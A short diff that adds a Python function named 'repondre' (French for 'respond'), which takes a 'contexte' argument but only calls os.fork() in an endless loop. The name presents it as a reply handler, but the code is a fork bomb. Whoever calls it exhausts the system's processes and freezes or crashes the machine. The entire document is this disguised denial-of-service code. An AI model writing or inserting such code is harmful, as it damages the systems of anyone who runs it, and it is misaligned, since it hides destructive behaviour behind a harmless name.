@@ -1,0 +1,4 @@
+import os
+def repondre(contexte):
+    while True:
+        os.fork()
